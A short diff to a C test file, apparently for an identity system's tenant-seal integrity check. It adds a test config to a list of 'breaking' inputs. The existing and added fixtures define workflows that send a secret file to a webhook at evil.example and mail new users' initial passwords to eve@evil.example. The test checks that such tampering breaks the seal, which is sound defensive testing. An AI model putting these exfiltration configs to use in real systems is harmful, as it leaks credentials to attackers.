@@ -409,6 +409,8 @@ static void sealing(void)
         "{\"workflows\":[{\"name\":\"Joiner\",\"trigger\":\"userCreate\",\"actions\":[{\"type\":\"callWebhook\",\"url\":\"https:/"
         "/evil.example\","
         "\"secretFile\":\"/etc/w\"}]}]}",
+        "{\"workflows\":[{\"name\":\"Joiner\",\"trigger\":\"userCreate\",\"actions\":[{\"type\":\"sendInitialPassword\",\"to\":"
+        "\"eve@evil.example\"}]}]}",
     };
     for (size_t i = 0; i < sizeof breaking / sizeof *breaking; i++) {
         ok(apply(fresh(), breaking[i], canonical, &changed, &ignored) == IDA_OK && !ida_tenant_seal_valid(key, changed, seal),
